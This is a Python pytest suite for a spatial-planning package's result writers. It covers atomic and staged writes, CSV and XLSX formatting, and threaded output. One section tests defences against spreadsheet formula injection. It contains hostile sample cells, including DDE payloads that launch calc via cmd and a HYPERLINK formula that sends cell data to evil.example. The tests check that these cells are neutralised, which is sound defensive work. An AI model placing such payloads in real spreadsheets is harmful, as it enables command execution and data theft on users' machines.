"""Atomic, checked writing of results."""

from __future__ import annotations

import json
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pyogrio
import pytest
import shapely

from spatialplan.errors import OutputError
from spatialplan.io.output import (
    atomic_path,
    check_output_dir,
    sha256_file,
    staged_output,
    write_json,
    write_results,
    write_table,
)


def _frames():
    gdf = gpd.GeoDataFrame(
        {"project_id": ["P1", "P2"], "name": ["污水处理站", "<b>x</b>"], "tags": [["a"], None]},
        geometry=[shapely.box(0, 0, 10, 10), None],
        crs="EPSG:4545",
    )
    findings = pd.DataFrame({"project_id": ["P1", "P1", "P2"], "rule": ["redline", "udb", "x"],
                             "measure": [1.5, None, 0.0]})
    return gdf, findings


def test_write_results_keeps_every_row_and_null_geometry(tmp_path):
    gdf, findings = _frames()
    path = write_results(tmp_path, {"projects": gdf, "findings": findings})
    assert sorted(pyogrio.list_layers(path)[:, 0]) == ["findings", "projects"]
    back = pyogrio.read_dataframe(path, layer="projects")
    assert list(back["project_id"]) == ["P1", "P2"]
    assert back.geometry.isna().tolist() == [False, True]
    assert back.loc[0, "name"] == "污水处理站"
    assert json.loads(back.loc[0, "tags"]) == ["a"]
    assert len(pyogrio.read_dataframe(path, layer="findings")) == 3
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def test_atomic_path_failure_leaves_previous_file(tmp_path):
    target = tmp_path / "a.csv"
    target.write_text("old")
    with pytest.raises(RuntimeError), atomic_path(target) as tmp:
        tmp.write_text("half")
        raise RuntimeError("disk full")
    assert target.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["a.csv"]


def test_atomic_path_requires_a_file(tmp_path):
    with pytest.raises(OutputError, match="no file"), atomic_path(tmp_path / "x.gpkg"):
        pass


def test_staged_output_moves_only_on_success(tmp_path):
    out = tmp_path / "out"
    with staged_output(out) as stage:
        (stage / "report.html").write_text("new")
    assert (out / "report.html").read_text() == "new"
    with pytest.raises(ValueError), staged_output(out) as stage:
        (stage / "report.html").write_text("broken")
        (stage / "map.html").write_text("broken")
        raise ValueError("layout failed")
    assert (out / "report.html").read_text() == "new"
    assert sorted(p.name for p in out.iterdir()) == ["report.html"]


def test_check_output_dir_refuses_folder_holding_an_input(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    src = data / "plan.gpkg"
    src.write_bytes(b"x")
    with pytest.raises(OutputError, match=r"contains the input plan.gpkg"):
        check_output_dir(data, [src])
    with pytest.raises(OutputError, match="contains the input"):
        check_output_dir(tmp_path, [src])
    assert check_output_dir(tmp_path / "out", [src]) == (tmp_path / "out").resolve()
    with pytest.raises(OutputError, match="not a folder"):
        check_output_dir(src, [])


def test_csv_has_bom_and_chinese(tmp_path):
    df = pd.DataFrame({"乡镇": ["示范镇"], "总投资(万元)": [120.5]})
    path = write_table(df, tmp_path / "t.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert "示范镇".encode() in raw


def test_xlsx_frozen_header_and_widths(tmp_path):
    df = pd.DataFrame({"项目名称": ["一个很长很长的项目名称用于测试列宽"], "n": [1]})
    path = write_table(df, tmp_path / "t.xlsx", sheet_name="时序表")
    wb = openpyxl.load_workbook(path)
    ws = wb["时序表"]
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["A"].width > ws.column_dimensions["B"].width
    assert ws["A2"].value.startswith("一个")


def test_unsupported_table_format(tmp_path):
    with pytest.raises(OutputError, match="unsupported"):
        write_table(pd.DataFrame({"a": [1]}), tmp_path / "t.parquet")
    assert list(tmp_path.iterdir()) == []


def test_json_and_hash(tmp_path):
    path = write_json({"名称": "示范镇", "n": 1}, tmp_path / "m.json")
    assert json.loads(path.read_text(encoding="utf-8"))["名称"] == "示范镇"
    assert len(sha256_file(path)) == 64
    folder = tmp_path / "x.gdb"
    folder.mkdir()
    (folder / "a").write_bytes(b"1")
    assert sha256_file(folder) != sha256_file(path)


def test_arrow_and_feature_writes_give_the_same_layers(tmp_path, monkeypatch):
    from spatialplan.io import output

    if not output._arrow_writes():
        pytest.skip("pyogrio cannot write through Arrow here (GDAL < 3.8 or no pyarrow)")
    gdf, findings = _frames()
    gdf["n"] = pd.array([1, None], dtype="Int64")
    gdf["ok"] = [True, False]
    gdf["on"] = pd.to_datetime(["2024-05-01", None])
    gdf["code"] = pd.Series(["0520", None], dtype=object)
    tables = {"projects": gdf, "findings": findings}
    arrow = write_results(tmp_path / "a", tables)
    monkeypatch.setattr(output, "_arrow_writes", lambda: False)
    plain = write_results(tmp_path / "b", tables)
    for layer in tables:
        info_a = pyogrio.read_info(arrow, layer=layer)
        info_b = pyogrio.read_info(plain, layer=layer)
        for key in ("fields", "dtypes"):
            assert list(info_a[key]) == list(info_b[key]), (layer, key)
        assert (info_a["geometry_type"], info_a["crs"], info_a["features"]) == (
            info_b["geometry_type"], info_b["crs"], info_b["features"])
        pd.testing.assert_frame_equal(pd.DataFrame(pyogrio.read_dataframe(arrow, layer=layer)),
                                      pd.DataFrame(pyogrio.read_dataframe(plain, layer=layer)))
    back = pyogrio.read_dataframe(arrow, layer="projects")
    assert back.loc[0, "code"] == "0520" and pd.isna(back.loc[1, "n"])


# --------------------------------------------------------------------------------------------
# CSV: the Arrow writer gives pandas' bytes; the read-back check counts records
# --------------------------------------------------------------------------------------------


def _csv_tables():
    import numpy as np

    rng = np.random.default_rng(5)
    n = 300
    words = np.array(["示范镇", "", "plain", 'q"uote', "c,omma", "n\nl", "c\rr", "\r\n", " sp ",
                      "=1+1", "0520", '"', "😀", "-5", "+1.5e3", "-5\n", " -5", "-", "@x",
                      "+1+cmd|' /C calc'!A0", "\t=1", "\r=1", " =1", "\u3000=1", "-1-1",
                      "'=1"], dtype=object)
    floats = rng.integers(0, 2**64, n, dtype=np.uint64).view(np.float64).copy()
    floats[::11] = np.nan
    floats[4], floats[5] = np.inf, -np.inf
    yield pd.DataFrame({
        "bits": floats, "zero": np.where(rng.random(n) < .5, 0.0, -0.0),
        "int": rng.integers(-2**62, 2**62, n), "u8": rng.integers(0, 255, n).astype("uint8"),
        "bool": rng.random(n) < .5,
        "obj": pd.Series(words[rng.integers(0, len(words), n)], dtype=object),
        "none": pd.Series([None if i % 3 else "x" for i in range(n)], dtype=object),
        "string": pd.array([None if i % 7 == 0 else w for i, w in
                            enumerate(words[rng.integers(0, len(words), n)])], dtype="string"),
        "序号": pd.Series([i if i % 4 else "小计" for i in range(n)], dtype=object),
        "a,\"b\"": 1.5,
    })
    yield pd.DataFrame({"a": pd.Series([], dtype=float), "b": pd.Series([], dtype=object)})
    yield pd.DataFrame({"only": ["x", "", None]})  # one column: pandas writes it
    yield pd.DataFrame({"day": pd.to_datetime(["2024-01-02", None]), "n": [1, 2]})  # pandas too


@pytest.mark.parametrize("index", [0, 1, 2, 3])
def test_csv_arrow_writer_gives_pandas_bytes(tmp_path, index):
    from spatialplan.io import output

    df = list(_csv_tables())[index]
    path = write_table(df, tmp_path / "t.csv")
    reference = tmp_path / "pandas.csv"
    output.defuse_formulas(df).to_csv(reference, index=False, encoding="utf-8-sig",
                                      lineterminator="\r\n")
    assert path.read_bytes() == reference.read_bytes()
    has_arrow = output._csv_columns(pd.DataFrame({"a": [1.5], "b": ["x"]})) is not None
    assert (output._csv_columns(df) is not None) == (index < 2 and has_arrow)
    back = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert len(back) == len(df)


def _int_object_table(n: int = 300) -> pd.DataFrame:
    import numpy as np

    return pd.DataFrame({  # object columns of ints (feature numbers)
        "ints": pd.Series([None if i % 10 == 0 else i * 7919 - 10**6 for i in range(n)],
                          dtype=object),
        "nan": pd.Series([np.nan if i % 3 == 0 else -i for i in range(n)], dtype=object),
        "extremes": pd.Series([2**63 - 1, -2**63, 0, -1] * (n // 4), dtype=object),
        "huge": pd.Series([2**64 if i == 3 else i for i in range(n)], dtype=object),
        "序号": pd.Series([i if i % 4 else "小计" for i in range(n)], dtype=object),
    })


def test_csv_int_object_columns_as_before(tmp_path, monkeypatch):
    """Object columns of ints: one cast, the bytes of the per-value path (str of each int)."""
    from spatialplan.io import _xlsx, output

    if _xlsx.arrow_compute() is None:
        pytest.skip("pyarrow not installed")
    df = _int_object_table()
    fast = write_table(df, tmp_path / "fast.csv").read_bytes()
    with monkeypatch.context() as m:
        m.setattr(_xlsx, "int_texts", lambda series: None)
        slow = write_table(df, tmp_path / "slow.csv").read_bytes()
    assert fast == slow
    complete = df[["extremes", "huge", "序号"]]  # no missing value: pandas writes the same
    reference = tmp_path / "pandas.csv"
    output.defuse_formulas(complete).to_csv(reference, index=False, encoding="utf-8-sig",
                                            lineterminator="\r\n")
    assert write_table(complete, tmp_path / "c.csv").read_bytes() == reference.read_bytes()


def test_csv_check_counts_records_not_lines(tmp_path):
    from spatialplan.io.output import check_csv

    df = pd.DataFrame({"a": ["line1\r\nline2", 'say "hi"\n', "c"], "b": [1, 2, 3]})
    path = write_table(df, tmp_path / "t.csv")
    raw = path.read_bytes()
    assert raw.count(b"\n") == 6
    check_csv(path, rows=3)
    (tmp_path / "short.csv").write_bytes(raw[:raw.rindex(b"c,3\r\n")])
    with pytest.raises(OutputError, match="2 rows, expected 3") as err:
        check_csv(tmp_path / "short.csv", rows=3, target=tmp_path / "final.csv")
    assert err.value.path.endswith("final.csv")
    cut = raw[:raw.index(b"line2")]  # cut inside the quoted field
    (tmp_path / "cut.csv").write_bytes(cut)
    with pytest.raises(OutputError, match="inside a quoted field"):
        check_csv(tmp_path / "cut.csv", rows=3)
    (tmp_path / "noend.csv").write_bytes(raw[:-2])
    with pytest.raises(OutputError, match="no final line end"):
        check_csv(tmp_path / "noend.csv", rows=3)
    (tmp_path / "nobom.csv").write_bytes(raw[3:])
    with pytest.raises(OutputError, match="no UTF-8 BOM"):
        check_csv(tmp_path / "nobom.csv", rows=3)
    check_csv(path, rows=3, chunk=5)  # quotes and CRLF split across reads


def test_csv_quoting_rule_is_this_pythons():
    import csv
    import io

    from spatialplan.io import output

    assert output._csv_quotes_like_python()
    for text in ["a", "", 'x"y', "x,y", "x\ry", "x\ny", "x\ty", " ", "a;b", "\u2028"]:
        buf = io.StringIO()
        csv.writer(buf, lineterminator="\r\n").writerow([text, "z"])
        assert buf.getvalue() == output._csv_quote(text) + ",z\r\n"


def test_csv_without_pyarrow_is_written_by_pandas(tmp_path, monkeypatch):
    from spatialplan.io import _xlsx

    df = next(_csv_tables())
    arrow = write_table(df, tmp_path / "a.csv").read_bytes()
    monkeypatch.setattr(_xlsx, "arrow_compute", lambda: None)
    assert write_table(df, tmp_path / "p.csv").read_bytes() == arrow


# --------------------------------------------------------------------------------------------
# write_check: files written in threads, listed and failing as in a serial run
# --------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def demo_run():
    import spatialplan as sp
    from spatialplan.core._resources import demo_dir

    plan = sp.read_plan(demo_dir() / "plan.toml")
    return plan, sp.run_check(plan)


_KINDS = ["gpkg", "stats_tables", "schedule", "report"]


def _write_check(demo_run, out, monkeypatch, threads):
    import spatialplan as sp

    monkeypatch.setenv("SPATIALPLAN_THREADS", str(threads))
    return sp.write_check(*demo_run, out, outputs=_KINDS)


def test_write_check_in_threads_writes_what_a_serial_run_does(demo_run, tmp_path, monkeypatch):
    from spatialplan.render import report as report_module

    listed = []
    render = report_module.render_report

    def spy(**kwargs):
        listed.append(dict(kwargs["outputs"]))
        return render(**kwargs)

    monkeypatch.setattr(report_module, "render_report", spy)
    serial = _write_check(demo_run, tmp_path / "serial", monkeypatch, 1)
    threaded = _write_check(demo_run, tmp_path / "threads", monkeypatch, 3)
    names = ["results", "township_stats_csv", "township_stats_xlsx", "line_conflicts_csv",
             "line_conflicts_xlsx", "township_conflicts_csv", "township_conflicts_xlsx",
             "county_summary_csv", "county_summary_xlsx", "village_reach_csv",
             "village_reach_xlsx", "village_seat_csv", "village_seat_xlsx", "schedule_xlsx",
             "schedule_csv",
             "report", "manifest"]
    assert list(serial) == list(threaded) == names
    for name in names:
        a, b = serial[name], threaded[name]
        assert a.name == b.name and a.exists() and b.exists()
        if name == "results":
            for layer in pyogrio.list_layers(a)[:, 0]:
                pd.testing.assert_frame_equal(pyogrio.read_dataframe(a, layer=layer),
                                              pyogrio.read_dataframe(b, layer=layer))
        elif name == "manifest":  # the report (its minute) and GeoPackage (times) differ
            ma, mb = (json.loads(p.read_text(encoding="utf-8")) for p in (a, b))
            for m in (ma, mb):
                for key in ("report", "results"):
                    assert len(m["outputs"][key].pop("sha256")) == 64
            assert ma == mb
        elif name != "report":  # the report holds the minute it was written
            assert a.read_bytes() == b.read_bytes(), name
    # the report is given the files written before it, as in a serial run
    assert [list(o) for o in listed] == [names[:-2]] * 2
    assert [p.parent.name for p in listed[1].values()] == ["threads"] * len(names[:-2])
    manifest = json.loads(threaded["manifest"].read_text(encoding="utf-8"))
    assert sorted(manifest["outputs"]) == sorted(names[:-1])


def test_write_check_raises_the_first_error_in_order(demo_run, tmp_path, monkeypatch):
    import time

    from spatialplan.io import output
    from spatialplan.render import schedule

    real = output.write_table

    def slow_broken_stats(df, path, **kwargs):
        if path.name == "township_stats.xlsx":
            time.sleep(0.3)  # fails after the schedule's writer did
            raise OutputError("stats broken", path=path)
        return real(df, path, **kwargs)

    def broken_schedule(*args, **kwargs):
        raise OSError("No space left on device")

    monkeypatch.setattr(output, "write_table", slow_broken_stats)
    monkeypatch.setattr(schedule, "write_schedule_csv", broken_schedule)
    with pytest.raises(OutputError, match="stats broken"):
        _write_check(demo_run, tmp_path / "out", monkeypatch, 2)
    assert not (tmp_path / "out").exists()  # the failed run removes the folder it created


def test_a_failed_geopackage_stops_the_later_writers(demo_run, tmp_path, monkeypatch):
    from spatialplan.io import output

    calls = []

    def broken_results(*args, **kwargs):
        raise OutputError("gpkg broken")

    monkeypatch.setattr(output, "write_results", broken_results)
    monkeypatch.setattr(output, "write_table", lambda *a, **k: calls.append(a))
    with pytest.raises(OutputError, match="gpkg broken"):
        _write_check(demo_run, tmp_path / "out", monkeypatch, 2)
    assert calls == [] and not (tmp_path / "out").exists()


# --------------------------------------------------------------------------------------------
# Formula injection (OWASP): text cells a spreadsheet would run are written as text
# --------------------------------------------------------------------------------------------

_HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "\n=1+1", " =1+1", "\u3000=1+1", "\x00=1"]


def _read_cells(path):
    import csv

    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("arrow", [True, False])
def test_csv_text_cells_that_start_a_formula_get_a_quote(tmp_path, monkeypatch, arrow):
    from spatialplan.io import _xlsx

    if not arrow:
        monkeypatch.setattr(_xlsx, "arrow_compute", lambda: None)
    n = len(_HOSTILE)
    df = pd.DataFrame({"name": _HOSTILE, "=cmd|' /C calc'!A0": ["-5"] * n,
                       "n": [-3] * n, "x": [-1.5] * n, "mixed": [-7] + ["-7+A1"] * (n - 1),
                       "plain": ["示范镇"] * n})
    rows = _read_cells(write_table(df, tmp_path / "t.csv"))
    assert rows[0] == ["name", "'=cmd|' /C calc'!A0", "n", "x", "mixed", "plain"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in _HOSTILE]
    # numbers stay numbers: numeric columns, and a plain number held as text
    assert {tuple(r[1:4]) for r in rows[1:]} == {("-5", "-3", "-1.5")}
    assert [r[4] for r in rows[1:3]] == ["-7", "'-7+A1"]
    assert {r[5] for r in rows[1:]} == {"示范镇"}


def test_csv_categorical_and_index_cells_are_defused(tmp_path):
    df = pd.DataFrame({"c": pd.Categorical(["=1+1", "ok", None])}, index=["@a", "b", "c"])
    rows = _read_cells(write_table(df, tmp_path / "t.csv", index=True))
    assert rows[1:] == [["'@a", "'=1+1"], ["b", "ok"], ["c", ""]]


def test_xlsx_keeps_formula_like_text_as_text(tmp_path):
    import zipfile

    df = pd.DataFrame({"name": [*_HOSTILE[:4], "-5"], "n": [-1.5] * 5})
    path = write_table(df, tmp_path / "t.xlsx")
    sheet = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and sheet.count('t="inlineStr"') >= 6
    ws = openpyxl.load_workbook(path).active
    assert [ws.cell(r, 1).value for r in range(2, 7)] == [*_HOSTILE[:4], "-5"]
    assert {ws.cell(r, 1).data_type for r in range(2, 7)} == {"s"}
    assert ws.cell(2, 2).value == -1.5 and ws.cell(2, 2).data_type == "n"


# --------------------------------------------------------------------------------------------
# staged_output: the folder holds the whole previous run or the whole new one, never a mix
# --------------------------------------------------------------------------------------------


def _previous_run(out):
    """A folder holding a previous run (a.txt, b.txt, old.html, its manifest) and a user file."""
    from spatialplan.io.output import sha256_file

    out.mkdir(parents=True, exist_ok=True)
    files = {"a.txt": "old a", "b.txt": "old b", "old.html": "old map"}
    for name, text in files.items():
        (out / name).write_text(text)
    manifest = {"outputs": {n.split(".")[0]: {"file": n, "sha256": sha256_file(out / n)}
                            for n in files}}
    write_json(manifest, out / "manifest.json")
    (out / "notes.docx").write_text("the user's own file")
    return _snapshot(out)


def _snapshot(folder):
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def _new_run(stage):
    """A run writing a.txt and c.txt (not b.txt, not old.html) and its manifest."""
    (stage / "a.txt").write_text("new a")
    (stage / "c.txt").write_text("new c")
    (stage / "manifest.json").write_text('{"outputs": {}}')


def test_commit_replaces_the_whole_run_and_removes_the_previous_runs_files(tmp_path, caplog):
    out = tmp_path / "out"
    _previous_run(out)
    (out / "b.txt").write_text("edited by hand")  # no longer what the manifest hashed
    with caplog.at_level("INFO", logger="spatialplan"), staged_output(out) as stage:
        _new_run(stage)
    after = _snapshot(out)
    assert sorted(after) == ["a.txt", "b.txt", "c.txt", "manifest.json", "notes.docx"]
    assert after["a.txt"] == b"new a" and after["b.txt"] == b"edited by hand"
    assert "changed since" in caplog.text and "old.html" in caplog.text


def test_a_run_without_manifest_leaves_the_previous_runs_files(tmp_path):
    out = tmp_path / "out"
    before = _previous_run(out)
    with staged_output(out) as stage:
        (stage / "slope.tif").write_text("new")
    assert _snapshot(out) == {**before, "slope.tif": b"new"}


def test_previous_manifest_naming_foreign_paths_removes_nothing_else(tmp_path):
    out = tmp_path / "out"
    _previous_run(out)
    (tmp_path / "outside.txt").write_text("x")
    from spatialplan.io.output import sha256_file

    digest = sha256_file(tmp_path / "outside.txt")
    write_json({"outputs": {"x": {"file": "../outside.txt", "sha256": digest},
                            "y": {"file": ".hidden", "sha256": digest},
                            "z": {"file": "a.txt"}, "w": "junk"}}, out / "manifest.json")
    with staged_output(out) as stage:
        (stage / "manifest.json").write_text("{}")
    assert (tmp_path / "outside.txt").exists()
    assert sorted(p.name for p in out.iterdir()) == ["a.txt", "b.txt", "manifest.json",
                                                     "notes.docx", "old.html"]


def test_a_target_that_is_a_folder_refuses_the_commit_before_any_move(tmp_path, monkeypatch):
    import os

    out = tmp_path / "out"
    _previous_run(out)
    (out / "c.txt").mkdir()
    before = _snapshot_tree(out)
    moves = []
    real = os.replace
    monkeypatch.setattr(os, "replace", lambda *a: (moves.append(a), real(*a)))
    refused = "cannot replace c.txt in the output folder: it is a folder; nothing in .* was"
    with pytest.raises(OutputError, match=refused), staged_output(out) as stage:
        _new_run(stage)
    assert moves == [] and _snapshot_tree(out) == before


def _snapshot_tree(folder):
    return {str(p.relative_to(folder)): (p.read_bytes() if p.is_file() else None)
            for p in sorted(folder.rglob("*"))}


def _commit_with_failures(tmp_path, monkeypatch, fail):
    """Commit the new run with os.replace failing at the calls ``fail(k)`` says (k from 0)."""
    import errno
    import os

    out = tmp_path / "out"
    before = _previous_run(out)
    real, calls = os.replace, []

    def replace(src, dst):
        calls.append((src, dst))
        if fail(len(calls) - 1) and not Path(src).is_dir():  # only the files' moves fail
            raise OSError(errno.EXDEV, "Invalid cross-device link", str(src))
        return real(src, dst)

    monkeypatch.setattr(os, "replace", replace)
    try:
        with staged_output(out) as stage:
            _new_run(stage)
    finally:
        monkeypatch.setattr(os, "replace", real)
    return out, before, calls


def test_a_failure_at_any_move_puts_every_file_back(tmp_path, monkeypatch):
    out, _, calls = _commit_with_failures(tmp_path / "ok", monkeypatch, lambda k: False)
    n = len(calls)
    assert n == 7  # a, c, manifest (with the previous a and manifest aside), b and old.html
    for k in range(n):
        with pytest.raises(OutputError, match=r"every file was put back, nothing in .* was "
                                              r"changed") as err:
            _commit_with_failures(tmp_path / str(k), monkeypatch, lambda i, k=k: i == k)
        out = tmp_path / str(k) / "out"
        assert _snapshot(out) == _previous_run(tmp_path / "fresh" / str(k)), k
        assert "cross-device" in str(err.value)


def test_a_failed_undo_keeps_the_previous_files_and_says_where(tmp_path, monkeypatch):
    with pytest.raises(OutputError, match=r"could not be put back; the previous files are "
                                          r"in .*spatialplan-recovery-") as err:
        _commit_with_failures(tmp_path, monkeypatch, lambda i: i >= 3)
    recovery = next(p for p in (tmp_path / "out").iterdir() if "recovery" in p.name)
    assert str(recovery) in str(err.value)
    kept = {p.name: p.read_text() for p in (recovery / ".previous").iterdir()}
    assert kept == {"a.txt": "old a"}  # moved aside, never put back: kept, not deleted
    assert not [p for p in (tmp_path / "out").iterdir() if "staging" in p.name]


def test_a_failed_run_removes_the_folders_it_created_only(tmp_path):
    out = tmp_path / "new" / "deeper" / "out"
    with pytest.raises(RuntimeError), staged_output(out) as stage:
        (stage / "a.txt").write_text("x")
        raise RuntimeError("layout failed")
    assert list(tmp_path.iterdir()) == []
    existing = tmp_path / "existing"
    existing.mkdir()
    with pytest.raises(KeyboardInterrupt), staged_output(existing / "out"):
        raise KeyboardInterrupt
    assert list(tmp_path.iterdir()) == [existing] and list(existing.iterdir()) == []


def test_writer_errors_name_the_final_file_and_say_nothing_changed(tmp_path):
    import errno

    out = tmp_path / "out"
    before = _previous_run(out)
    with (pytest.raises(OutputError) as err, staged_output(out) as stage,
          atomic_path(stage / "map.html") as tmp):
        tmp.write_text("half")
        raise OSError(errno.ENOSPC, "No space left on device")
    text = str(err.value)
    assert text.startswith("cannot write map.html: the disk is full (No space left on device)")
    assert f"nothing in {out} was changed" in text and f"file {out / 'map.html'}" in text
    assert "staging" not in text and "Fix: free disk space" in text
    assert _snapshot(out) == before


def _dead_pid():
    import subprocess
    import sys

    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    return proc.pid


def test_staging_folders_of_dead_runs_are_removed_and_logged(tmp_path, caplog):
    import os
    import time

    from spatialplan.io import output

    out = tmp_path / "out"
    out.mkdir()
    host = output._host()
    dead = out / f".spatialplan-staging-{_dead_pid()}-{host}-abc123_x"
    live = out / f".spatialplan-staging-{os.getppid()}-{host}-abc123_y"
    other_host = out / f".spatialplan-staging-{_dead_pid()}-elsewhere.example-abc123_z"
    old_unowned, new_unowned = out / ".spatialplan-staging-old1", out / ".spatialplan-staging-n"
    for folder in (dead, live, other_host, old_unowned, new_unowned):
        folder.mkdir()
        (folder / "results.gpkg").write_bytes(b"x" * 1000)
    os.utime(old_unowned, (time.time() - 7200,) * 2)
    with caplog.at_level("WARNING", logger="spatialplan"), staged_output(out) as stage:
        assert str(os.getpid()) in stage.name and host in stage.name
    assert sorted(p.name for p in out.iterdir()) == sorted(
        [live.name, other_host.name, new_unowned.name])
    assert "removed 2 staging folder(s)" in caplog.text and dead.name in caplog.text


def test_check_output_dir_refuses_system_read_only_and_unwritable_folders(tmp_path,
                                                                          monkeypatch):
    import os

    for system in ("/proc", "/sys/kernel", "/dev/spatialplan-out", "/proc/1/x"):
        with pytest.raises(OutputError, match="a view of the running system"):
            check_output_dir(system, [])
    if Path("/dev/shm").is_dir():
        assert check_output_dir("/dev/shm/spatialplan-out", []) == Path("/dev/shm/spatialplan-out")
    (tmp_path / "file").write_text("x")
    with pytest.raises(OutputError, match=r"cannot be created: .*file is a file"):
        check_output_dir(tmp_path / "file" / "out", [])

    class ReadOnly:
        f_flag = os.ST_RDONLY

    monkeypatch.setattr(os, "statvfs", lambda path: ReadOnly())
    with pytest.raises(OutputError, match="read-only file system") as err:
        check_output_dir(tmp_path / "new" / "out", [])
    assert err.value.path == str(tmp_path)
    monkeypatch.undo()
    monkeypatch.setattr(os, "access", lambda path, mode: False)
    with pytest.raises(OutputError, match="no permission to write"):
        check_output_dir(tmp_path, [])
    assert list(tmp_path.iterdir()) == [tmp_path / "file"]  # nothing was created


def test_signals_wait_until_the_commit_is_done(tmp_path, monkeypatch):
    import os
    import signal

    out = tmp_path / "out"
    _previous_run(out)
    real, calls = os.replace, []

    def replace(src, dst):
        calls.append(dst)
        if len(calls) == 2:
            signal.raise_signal(signal.SIGINT)  # Ctrl-C in the middle of the commit
        return real(src, dst)

    monkeypatch.setattr(os, "replace", replace)
    # Ctrl-C's own handler, also when the suite runs in the background (a shell starts a
    # background job with SIGINT ignored)
    previous = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        with pytest.raises(KeyboardInterrupt), staged_output(out) as stage:
            _new_run(stage)
    finally:
        signal.signal(signal.SIGINT, previous)
    assert len(calls) == 7  # every move was made before the interrupt was delivered
    assert _snapshot(out)["a.txt"] == b"new a" and not (out / "old.html").exists()
    assert not [p for p in out.iterdir() if p.name.startswith(".")]
